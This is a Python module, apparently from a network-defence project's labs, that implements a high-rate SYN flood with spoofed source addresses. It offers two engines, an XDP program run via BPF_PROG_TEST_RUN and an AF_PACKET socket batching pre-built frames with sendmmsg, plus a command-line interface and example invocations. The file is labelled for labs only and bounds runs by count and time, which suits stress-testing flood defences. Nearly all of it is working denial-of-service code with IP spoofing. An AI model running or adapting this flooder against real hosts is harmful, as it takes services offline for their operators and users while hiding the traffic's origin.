"""A spoofed-source SYN flood at the fastest rate this machine can make, for labs only.

Two engines send the same frames (random source address inside --src-net, random source
port, sequence number and IP ID, correct checksums); IPv4 or IPv6 after --dst (an IPv6
--src-net is /64 or longer: the low 64 bits are drawn at random):

- `live`: bpf/syn_flood.c run through BPF_PROG_TEST_RUN in live-frames mode. The kernel
  hands it a fresh copy of one SYN frame per run; the program randomises it and returns
  XDP_TX, which transmits it out of --iface. No socket, no skb, no userspace copy per packet.
  Some hosts refuse live frames (EPERM), so it is probed first
  (fastpath.bpf.testrun.live_frames_refused).
- `packet`: an AF_PACKET socket with PACKET_QDISC_BYPASS sending a pool of 65,536
  pre-built frames (each with its own random source, port, sequence number and IP ID, and
  correct checksums) round after round, up to 1,024 per sendmmsg(2) call. It works wherever
  a packet socket does. A busy receiver pushes back (the socket blocks, or the device says
  ENOBUFS) and the sender waits instead of failing. Random source bits are drawn in whole
  bytes, so a --src-net that is not byte-aligned is narrowed to its first byte-aligned
  sub-network.

`--engine auto` (the default, or $FASTPATH_FLOOD_ENGINE) takes `live` where the probe passes,
else `packet` with one line saying why. Bounded by --count and --seconds; SIGTERM or SIGINT
stops it early.

    ip netns exec lab-attacker python -m fastpath.labs.flood --iface eth0 \
        --dst-mac 02:..:02 --dst 10.66.0.2 --dport 8080 --src-net 10.99.0.0/16 \
        --count 20000000 --seconds 10
    ... --dst fd66::2 --src-net fd99::/64 --engine packet

Prints `engine NAME` (with the reason for a fallback), `ready` once it can send, and
`sent N seconds S engine NAME` at the end; an error is one `error: ...` line and exit 1.
"""

from __future__ import annotations

import argparse
import contextlib
import ctypes
import errno
import ipaddress
import os
import random
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Sequence

from fastpath.bpf import loader, syscall
from fastpath.bpf.testrun import ENGINE_ENV, ENGINES, choose_engine
from fastpath.errors import FastpathError

SPEC = loader.ProgramSpec(name="syn_flood", entry="syn_flood", maps=())


# TCP options of the flood's SYNs: MSS 1460 alone (a 24-byte TCP header, the default), or
# what Linux sends (MSS, SACK permitted, timestamps, NOP, window scale 7: 40 bytes).
MSS_ONLY = struct.pack("!BBH", 2, 4, 1460)
LINUX_OPTIONS = MSS_ONLY + struct.pack("!BBBBIIBBBB", 4, 2, 8, 10, 0x12345678, 0, 1, 3, 3, 7)


def program_defines(net: ipaddress.IPv4Network | ipaddress.IPv6Network,
                    tcp_len: int = 20 + len(MSS_ONLY)) -> dict[str, int | str]:
    """bpf/syn_flood.c's -D flags drawing sources from `net` (IPv6: its low 64 bits), for a
    template whose TCP header is `tcp_len` bytes."""
    base, mask = int(net.network_address), int(net.hostmask)
    length: dict[str, int | str] = {} if tcp_len == 20 + len(MSS_ONLY) else {"TCP_LEN": tcp_len}
    if net.version == 4:
        return {"SRC_BASE": f"{base:#x}U", "SRC_MASK": f"{mask:#x}U", **length}
    word = 0xFFFFFFFF
    return {"FLOOD_V6": 1,
            "SRC_BASE2": f"{base >> 32 & word:#x}U", "SRC_MASK2": f"{mask >> 32 & word:#x}U",
            "SRC_BASE3": f"{base & word:#x}U", "SRC_MASK3": f"{mask & word:#x}U", **length}


def load_program(net: ipaddress.IPv4Network | ipaddress.IPv6Network,
                 tcp_len: int = 20 + len(MSS_ONLY)) -> loader.LoadedProgram:
    """The live engine's program (bpf/syn_flood.c), spoofing sources inside `net`."""
    return loader.load(SPEC, program_defines(net, tcp_len))


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of `data`, ready to store in a header."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_frame(src_mac: bytes, dst_mac: bytes, src: str, dst: str, dport: int,
              options: bytes = MSS_ONLY) -> bytes:
    """An Ethernet/IPv4/TCP or Ethernet/IPv6/TCP SYN with TCP `options` (MSS 1460 alone by
    default; the program rewrites the source and the checksums)."""
    if len(options) % 4 or len(options) > 40:
        raise ValueError("TCP options come in 4-byte words, at most 40 bytes")
    offset = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", 40000, dport, 1, 0, offset << 4, 0x02, 64240, 0, 0) + options
    if ipaddress.ip_address(dst).version == 6:
        ip6 = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64,
                          ipaddress.IPv6Address(src).packed, ipaddress.IPv6Address(dst).packed)
        return dst_mac + src_mac + b"\x86\xdd" + ip6 + tcp
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def _mac(text: str) -> bytes:
    try:
        raw = bytes.fromhex(text.replace(":", ""))
    except ValueError:
        raw = b""
    if len(raw) != 6:
        raise FastpathError(f"bad MAC address {text!r}", fix="write it as 02:00:00:00:00:01")
    return raw


def _iface_mac(ifname: str) -> bytes:
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        info = fcntl.ioctl(s.fileno(), 0x8927, struct.pack("256s", ifname.encode()[:15]))  # SIOCGIFHWADDR
    return info[18:24]


def _source_bits(net: ipaddress.IPv4Network | ipaddress.IPv6Network) -> tuple[bytes, int]:
    """(fixed leading address bytes, number of random trailing bytes) for `net`: whole random
    bytes only, so a prefix that is not byte-aligned is narrowed to a byte boundary."""
    width = 4 if net.version == 4 else 16
    random_bytes = (net.max_prefixlen - net.prefixlen) // 8
    return net.network_address.packed[: width - random_bytes], random_bytes


POOL = 65_536


def frame_pool(frame: bytes, net: ipaddress.IPv4Network | ipaddress.IPv6Network, count: int = POOL,
               rng: random.Random | None = None) -> bytes:
    """`count` copies of `frame` (from syn_frame), each with a random source (inside `net`,
    in whole bytes), source port, sequence number and IPv4 ID, and its checksums redone."""
    rng = rng or random.Random()
    fixed, nrand = _source_bits(net)
    ip, out = 14, bytearray()
    v4 = net.version == 4
    th = ip + (20 if v4 else 40)
    src = ip + 12 if v4 else ip + 8
    tcp = bytearray(frame[th:])
    for _ in range(count):
        f = bytearray(frame)
        f[src:src + len(fixed) + nrand] = fixed + rng.randbytes(nrand)
        tcp[0:2] = struct.pack("!H", rng.randrange(1024, 65536))
        tcp[4:8] = rng.randbytes(4)
        tcp[16:18] = b"\0\0"
        if v4:
            f[ip + 4:ip + 6] = rng.randbytes(2)
            f[ip + 10:ip + 12] = b"\0\0"
            f[ip + 10:ip + 12] = struct.pack("!H", checksum(bytes(f[ip:th])))
            pseudo = bytes(f[ip + 12:ip + 20]) + struct.pack("!BBH", 0, 6, len(tcp))
        else:
            pseudo = bytes(f[ip + 8:ip + 40]) + struct.pack("!IxxxB", len(tcp), 6)
        tcp[16:18] = struct.pack("!H", checksum(pseudo + bytes(tcp)))
        f[th:] = tcp
        out += f
    return bytes(out)


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class _MsgHdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class _MMsgHdr(ctypes.Structure):
    _fields_ = [("hdr", _MsgHdr), ("len", ctypes.c_uint)]


_libc = ctypes.CDLL(None, use_errno=True)
SOL_PACKET, PACKET_QDISC_BYPASS, SO_SNDBUFFORCE = 263, 20, 32
BATCH = 1024


class _PacketSender:
    """The pool on a bound AF_PACKET socket, sent with sendmmsg(2) in batches."""

    def __init__(self, iface: str, pool: bytes, frame_len: int) -> None:
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        try:
            self.sock.bind((iface, 0))
            with contextlib.suppress(OSError):
                self.sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
            try:  # room for the frames a busy peer holds (root may exceed wmem_max)
                self.sock.setsockopt(socket.SOL_SOCKET, SO_SNDBUFFORCE, 8 << 20)
            except OSError:
                self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        except OSError:
            self.sock.close()
            raise
        self.n = len(pool) // frame_len
        self._buf = ctypes.create_string_buffer(pool, len(pool))
        base = ctypes.addressof(self._buf)
        self._iov = (_IoVec * self.n)(*[_IoVec(base + i * frame_len, frame_len) for i in range(self.n)])
        iov0 = ctypes.addressof(self._iov)
        size = ctypes.sizeof(_IoVec)
        self._msgs = (_MMsgHdr * self.n)(*[_MMsgHdr(_MsgHdr(iov=iov0 + i * size, iovlen=1))
                                            for i in range(self.n)])
        self._next = 0

    def send(self, frames: int, deadline: float, stop: Callable[[], bool]) -> int:
        fd, sent = self.sock.fileno(), 0
        msgs = ctypes.addressof(self._msgs)
        size = ctypes.sizeof(_MMsgHdr)
        while sent < frames and not stop() and time.monotonic() < deadline:
            n = min(BATCH, frames - sent, self.n - self._next)
            got = _libc.sendmmsg(fd, ctypes.c_void_p(msgs + self._next * size), n, 0)
            if got < 0:
                err = ctypes.get_errno()
                if err not in (errno.ENOBUFS, errno.EAGAIN, errno.EINTR):
                    raise OSError(err, f"sendmmsg on the packet socket: {os.strerror(err)}")
                time.sleep(0.0002)  # the device is full: let the receiver catch up
                continue
            sent += got
            self._next = (self._next + got) % self.n
        return sent

    def close(self) -> None:
        self.sock.close()


class Flood:
    """A loaded flood engine; run() may be called repeatedly."""

    def __init__(self, iface: str, dst_mac: str, dst: str, dport: int, src_net: str,
                 engine: str | None = None, options: bytes = MSS_ONLY) -> None:
        try:
            net = ipaddress.ip_network(src_net, strict=True)
            version = ipaddress.ip_address(dst).version
        except ValueError as exc:
            raise FastpathError(f"bad address: {exc}") from None
        if net.version != version:
            raise FastpathError(f"--src-net {src_net} and --dst {dst} are not of one IP version")
        if net.prefixlen < (8 if version == 4 else 64):
            raise FastpathError(f"--src-net {src_net} must be /8 or longer (IPv4), /64 or longer (IPv6)")
        try:
            self.ifindex = socket.if_nametoindex(iface)
        except OSError:
            raise FastpathError(f"unknown interface {iface!r}") from None
        self.iface = iface
        choice = choose_engine(engine, self.ifindex)
        self.engine, self.note = choice.engine, choice.note
        self.frame = syn_frame(_iface_mac(iface), _mac(dst_mac), str(net.network_address), dst, dport,
                               options)
        self.prog: loader.LoadedProgram | None = None
        self._sender: _PacketSender | None = None
        if self.engine == "packet":
            pool = frame_pool(self.frame, net)
            try:
                self._sender = _PacketSender(iface, pool, len(self.frame))
            except OSError as exc:
                raise FastpathError(f"cannot open a packet socket on {iface}: {exc.strerror or exc}",
                                    fix="run as root (CAP_NET_RAW)") from None
            return
        self.prog = load_program(net, 20 + len(options))

    def run(self, frames: int, seconds: float = 120.0, chunk: int = 100_000,
            stop: Callable[[], bool] = lambda: False) -> int:
        """Send up to `frames` frames within `seconds` (checking `stop` between chunks);
        returns how many were sent."""
        if self._sender is not None:
            return self._sender.send(frames, time.monotonic() + seconds, stop)
        assert self.prog is not None
        sent = 0
        deadline = time.monotonic() + seconds
        while sent < frames and time.monotonic() < deadline and not stop():
            n = min(chunk, frames - sent)
            syscall.prog_test_run_live(self.prog.prog_fd, self.frame, n, self.ifindex)
            sent += n
        return sent

    def close(self) -> None:
        if self.prog is not None:
            self.prog.close()
        if self._sender is not None:
            self._sender.close()


MAX_SECONDS = 600.0  # the generator's own bound on a run; callers stop it sooner with SIGTERM


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m fastpath.labs.flood", description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--iface", required=True, help="interface to send from (in this namespace)")
    p.add_argument("--dst-mac", required=True, help="next hop's MAC address")
    p.add_argument("--dst", required=True, help="target IPv4 or IPv6 address")
    p.add_argument("--dport", type=int, required=True, help="target TCP port")
    p.add_argument("--src-net", default="10.99.0.0/16", help="spoofed sources are drawn from here")
    p.add_argument("--count", type=int, default=10_000_000, help="stop after this many frames")
    p.add_argument("--seconds", type=float, default=10.0,
                   help=f"stop after this long (at most {MAX_SECONDS:.0f}; SIGTERM stops it earlier)")
    p.add_argument("--engine", choices=ENGINES, default=None,
                   help=f"live, packet or auto (default: ${ENGINE_ENV}, else auto)")
    args = p.parse_args(argv)
    if not 0 < args.seconds <= MAX_SECONDS:
        p.error(f"--seconds must be more than 0 and at most {MAX_SECONDS:.0f}")
    # SIGTERM would interrupt a live chunk half-way with EINTR, and the kernel does not say
    # how many frames went out; block it and look for it between chunks instead.
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT})

    def stopped() -> bool:
        return bool(signal.sigpending() & {signal.SIGTERM, signal.SIGINT})

    try:
        flood = Flood(args.iface, args.dst_mac, args.dst, args.dport, args.src_net, args.engine)
    except FastpathError as exc:
        print(f"error: {exc}", file=sys.stderr, flush=True)
        return 1
    print(f"engine {flood.engine}" + (f" ({flood.note})" if flood.note else ""), flush=True)
    print("ready", flush=True)
    t0 = time.monotonic()
    try:
        sent = flood.run(args.count, args.seconds, stop=stopped)
    except (FastpathError, OSError) as exc:
        print(f"error: {exc}", file=sys.stderr, flush=True)
        return 1
    finally:
        flood.close()
    print(f"sent {sent} seconds {time.monotonic() - t0:.3f} engine {flood.engine}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
